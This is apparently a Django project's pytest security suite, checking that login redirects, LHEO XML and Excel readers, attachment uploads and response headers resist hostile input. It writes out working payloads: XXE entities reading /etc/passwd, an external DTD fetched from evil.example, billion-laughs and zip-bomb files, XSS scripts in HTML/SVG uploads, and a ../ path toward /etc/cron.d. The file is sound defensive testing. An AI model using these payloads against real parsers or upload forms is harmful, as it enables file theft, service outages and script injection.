"""Inputs from outside that must never hurt: login redirects, hostile XML (LHEO) and Excel files, uploads, and
the security headers of every kind of answer. Completes, without repeating them, tests/lheo/test_reader.py (XXE,
billion laughs, external DTD), tests/core/test_security_headers.py (login page headers, inline scripts) and the
upload tests of tests/offre and tests/accounts (magic bytes, size)."""

import io
import socket
import time
import zipfile
from urllib.parse import urlparse

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from ofeli.exports import excel
from ofeli.lheo import LheoError
from ofeli.lheo.safe import safe_iterparse
from ofeli.messagerie.models import Fil, PieceJointeMessage
from tests.factories import ContactFactory, UserFactory

from .conftest import MOT_DE_PASSE

# --- no open redirect -------------------------------------------------------------------------------
EVIL = [
    "https://evil.example/",
    "http://evil.example",
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "https:evil.example",
    " //evil.example",
    "\t//evil.example",
    "http://testserver@evil.example/",
    "https://testserver.evil.example/",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
]


def _local(location: str) -> bool:
    parsed = urlparse(location)
    return parsed.scheme == "" and parsed.netloc == "" and location.startswith("/") and not location.startswith("//")


@pytest.mark.django_db
def test_login_never_redirects_to_another_site(client):
    user = ContactFactory().user
    for evil in EVIL:
        response = client.post(
            reverse("accounts:login"), {"username": user.email, "password": MOT_DE_PASSE, "next": evil}
        )
        assert response.status_code == 302, evil
        assert _local(response["Location"]), f"{evil!r} -> {response['Location']!r}"
        client.logout()


@pytest.mark.django_db
def test_login_follows_a_local_next():
    from django.test import Client

    client = Client()
    user = ContactFactory().user
    response = client.post(
        reverse("accounts:login"), {"username": user.email, "password": MOT_DE_PASSE, "next": "/offre/formations/"}
    )
    assert response["Location"] == "/offre/formations/"


@pytest.mark.django_db
def test_logout_never_redirects_to_another_site(client):
    user = ContactFactory().user
    for evil in EVIL:
        client.force_login(user)
        response = client.post(reverse("accounts:logout"), {"next": evil})
        assert response.status_code == 302
        assert _local(response["Location"]), f"{evil!r} -> {response['Location']!r}"


# --- hostile XML: the LHEO reader -------------------------------------------------------------------------
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE lheo [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
<lheo xmlns="http://lheo.gouv.fr/2.3"><offres/></lheo>"""
UTF16_XXE = (
    '<?xml version="1.0" encoding="UTF-16"?>\n'
    '<!DOCTYPE lheo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    '<lheo xmlns="http://lheo.gouv.fr/2.3"><offres><formation><intitule-formation>&xxe;</intitule-formation>'
    "</formation></offres></lheo>"
).encode("utf-16")
QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE lheo [<!ENTITY a "' + b"x" * 100_000 + b'">]>'
    b'<lheo xmlns="http://lheo.gouv.fr/2.3"><offres><formation><intitule-formation>'
    + b"&a;" * 10_000
    + b"</intitule-formation></formation></offres></lheo>"
)
XINCLUDE = b"""<?xml version="1.0"?>
<lheo xmlns="http://lheo.gouv.fr/2.3" xmlns:xi="http://www.w3.org/2001/XInclude"><offres><formation>
<intitule-formation><xi:include parse="text" href="file:///etc/passwd"/></intitule-formation></formation></offres></lheo>"""


@pytest.fixture
def sans_reseau(monkeypatch):
    """Any network connection attempt fails the test."""
    tentatives = []

    def refuse(self, address):
        tentatives.append(address)
        raise OSError("réseau interdit pendant ce test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    yield tentatives
    assert not tentatives, f"connexion réseau tentée : {tentatives}"


@pytest.mark.parametrize(
    "payload", [PARAMETER_ENTITY, UTF16_XXE, QUADRATIC], ids=["parameter-entity", "utf16-xxe", "quadratic-blowup"]
)
def test_the_lheo_reader_refuses_entities_quickly_and_offline(payload, sans_reseau, tmp_path):
    path = tmp_path / "hostile.xml"
    path.write_bytes(payload)
    started = time.perf_counter()
    with pytest.raises(LheoError, match="DOCTYPE|entité"):
        for _ in safe_iterparse(str(path)):
            pass
    assert time.perf_counter() - started < 1.0


def test_the_lheo_reader_does_not_process_xinclude(sans_reseau, tmp_path):
    path = tmp_path / "xinclude.xml"
    path.write_bytes(XINCLUDE)
    textes = [el.text or "" for _, el in safe_iterparse(str(path))]
    assert not any("root:" in t for t in textes)


# --- hostile Excel files ------------------------------------------------------------------------------
def _classeur_avec(remplacements: dict[str, bytes]) -> io.BytesIO:
    """A real .xlsx whose parts named in `remplacements` are replaced by hostile XML."""
    source = io.BytesIO()
    wb = openpyxl.Workbook()
    wb.active.title = "Formations"
    wb.active.append(["Intitulé de la formation"])
    wb.active.append(["Menuiserie"])
    wb.save(source)
    source.seek(0)
    sortie = io.BytesIO()
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(sortie, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            zout.writestr(item, remplacements.get(item.filename, zin.read(item.filename)))
    sortie.seek(0)
    return sortie


LAUGHS_XML = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>"""
XXE_XML = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"""


def _workbook_xml(entete: bytes, valeur: bytes) -> bytes:
    return entete + (
        b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        b'<sheet name="' + valeur + b'" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )


def _sheet_xml(entete: bytes, valeur: bytes) -> bytes:
    return entete + (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + valeur + b"</t></is></c></row></sheetData></worksheet>"
    )


def _lire_tout(handle):
    wb = excel.ouvrir_classeur(handle)
    return [[c for c in row] for ws in wb.worksheets for row in ws.iter_rows(values_only=True)]


@pytest.mark.parametrize(
    ("partie", "contenu"),
    [
        ("xl/workbook.xml", _workbook_xml(LAUGHS_XML, b"&lol9;")),
        ("xl/workbook.xml", _workbook_xml(XXE_XML, b"&xxe;")),
        ("xl/worksheets/sheet1.xml", _sheet_xml(LAUGHS_XML, b"&lol9;")),
        ("xl/worksheets/sheet1.xml", _sheet_xml(XXE_XML, b"&xxe;")),
    ],
    ids=["workbook-laughs", "workbook-xxe", "sheet-laughs", "sheet-xxe"],
)
def test_the_excel_reader_refuses_entities_quickly_and_offline(partie, contenu, sans_reseau):
    handle = _classeur_avec({partie: contenu})
    started = time.perf_counter()
    with pytest.raises(Exception) as refus:
        lignes = _lire_tout(handle)
        pytest.fail(f"classeur hostile lu : {str(lignes)[:200]}")
    assert time.perf_counter() - started < 1.0
    assert type(refus.value).__name__ in {"ClasseurIllisible", "EntitiesForbidden", "DTDForbidden"}


def test_the_excel_reader_refuses_a_zip_bomb_before_inflating_it(monkeypatch):
    monkeypatch.setattr(excel, "TAILLE_DECOMPRESSEE_MAX", 1024 * 1024)
    handle = _classeur_avec({"xl/media/zeros.bin": b""})
    data = io.BytesIO(handle.getvalue())
    with zipfile.ZipFile(data, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/bombe.bin", b"\0" * (2 * 1024 * 1024))
    assert len(data.getvalue()) < 64 * 1024  # small on disk, 2 MB inflated
    data.seek(0)
    with pytest.raises(excel.ClasseurIllisible, match="trop volumineux"):
        excel.ouvrir_classeur(data)


def test_openpyxl_reads_xml_through_defusedxml():
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML, "defusedxml must be installed (requirements/base.in): openpyxl then refuses entities"


# --- uploads: messages' attachments ---------------------------------------------------------------------
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


@pytest.fixture
def gestionnaire_connecte(client, db, settings, tmp_path):
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": str(tmp_path)}},
    }
    contact = ContactFactory(gestionnaire=True)
    client.force_login(contact.user)
    return contact


def _envoyer(client, fichier):
    return client.post(
        reverse("messagerie:nouveau"), {"sujet": "Pièce", "texte": "Voici le document.", "pieces": [fichier]}
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("nom", "contenu"),
    [
        ("page.html", b"<html><script>alert(1)</script></html>"),
        ("image.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("faux.pdf", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("archive.pdf", b"PK\x03\x04" + b"\0" * 100),
    ],
)
def test_html_svg_and_disguised_files_are_refused_and_nothing_is_written(client, gestionnaire_connecte, nom, contenu):
    response = _envoyer(client, SimpleUploadedFile(nom, contenu, content_type="application/pdf"))
    assert response.status_code == 200
    assert "PDF" in response.content.decode()
    assert not Fil.objects.exists() and not PieceJointeMessage.objects.exists()


@pytest.mark.django_db
def test_a_path_in_the_file_name_never_reaches_the_disk_and_downloads_are_attachments(
    client, gestionnaire_connecte, tmp_path
):
    response = _envoyer(client, SimpleUploadedFile("../../../etc/cron.d/x.pdf", PDF, content_type="text/html"))
    assert response.status_code == 302
    piece = PieceJointeMessage.objects.get()
    assert ".." not in piece.fichier.name and "cron" not in piece.fichier.name
    assert (tmp_path / piece.fichier.name).resolve().is_relative_to(tmp_path.resolve())
    assert piece.content_type == "application/pdf"  # from the bytes, not from the browser
    download = client.get(reverse("messagerie:piece", args=[piece.pk]))
    assert download["Content-Disposition"].startswith("attachment")
    assert "/" not in download["Content-Disposition"].split("filename", 1)[1]
    assert download["X-Content-Type-Options"] == "nosniff"
    assert download["Content-Type"] == "application/pdf"


@pytest.mark.django_db
def test_an_upload_over_the_limit_is_refused_and_nothing_is_written(client, gestionnaire_connecte, settings):
    settings.OFELI_MAX_ATTACHMENT_SIZE = 100
    response = _envoyer(client, SimpleUploadedFile("gros.pdf", PDF + b"0" * 200, content_type="application/pdf"))
    assert response.status_code == 200
    assert "taille maximale" in response.content.decode()
    assert not Fil.objects.exists()


# --- headers on every kind of answer ------------------------------------------------------------------
def _entetes_securite(response, *, page=True):
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "same-origin"
    assert response["Cross-Origin-Opener-Policy"] == "same-origin"
    if page:
        csp = response["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in csp
        assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
        assert "object-src 'none'" in csp
        assert response["X-Frame-Options"] == "DENY"


@pytest.mark.django_db
def test_error_pages_download_and_api_answers_carry_the_security_headers(client):
    _entetes_securite(client.get("/page-qui-n-existe-pas/"))
    _entetes_securite(client.get(reverse("diffusion:api_flux")), page=False)  # 401 JSON
    contact = ContactFactory()
    client.force_login(contact.user)
    response = client.get(reverse("organismes:mes_donnees_export"))
    _entetes_securite(response, page=False)
    assert "no-store" in response["Cache-Control"]
    staff = UserFactory(staff=True)
    client.force_login(staff)
    _entetes_securite(client.get(reverse("accounts:demandes")))
    _entetes_securite(client.get("/technique/admin/"))


def test_production_settings_set_hsts_secure_cookies_and_https(tmp_path):
    import os
    import subprocess
    import sys
    from pathlib import Path

    code = (
        "import ofeli.settings as s; print(s.SECURE_HSTS_SECONDS, s.SECURE_HSTS_INCLUDE_SUBDOMAINS, "
        "s.SESSION_COOKIE_SECURE, s.CSRF_COOKIE_SECURE, s.SECURE_SSL_REDIRECT, s.SESSION_COOKIE_HTTPONLY, s.DEBUG)"
    )
    env = {k: v for k, v in os.environ.items() if k not in {"OFELI_TESTING", "DEBUG", "SECURE_HSTS_SECONDS"}}
    env.update(
        DJANGO_ENV="production",
        SECRET_KEY="y" * 60,
        ALLOWED_HOSTS="ofeli.example.org",
        OFELI_VAR_DIR=str(tmp_path),
        STATIC_ROOT=str(tmp_path / "static"),
    )
    out = subprocess.run(
        [sys.executable, "-c", code],
        env=env,
        cwd=Path(__file__).resolve().parents[2],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    hsts, *flags, debug = out
    assert int(hsts) >= 31536000
    assert flags == ["True"] * 5
    assert debug == "False"


# --- CSRF on every route --------------------------------------------------------------------------------
@pytest.mark.django_db
def test_every_post_without_a_csrf_token_is_refused_except_the_token_api():
    from django.test import Client

    from .test_second_facteur import ROUTES

    client = Client(enforce_csrf_checks=True)
    client.force_login(UserFactory(staff=True))
    acceptes = []
    for name, url, gate in ROUTES:
        response = client.post(url, {"x": "1"})
        if gate == "partner":
            assert response.status_code == 405, name  # GET only, token auth: no cookie to ride on
        elif response.status_code != 403:
            acceptes.append(f"{name} {url} -> {response.status_code}")
    assert not acceptes, "POST sans jeton CSRF accepté :\n" + "\n".join(acceptes)
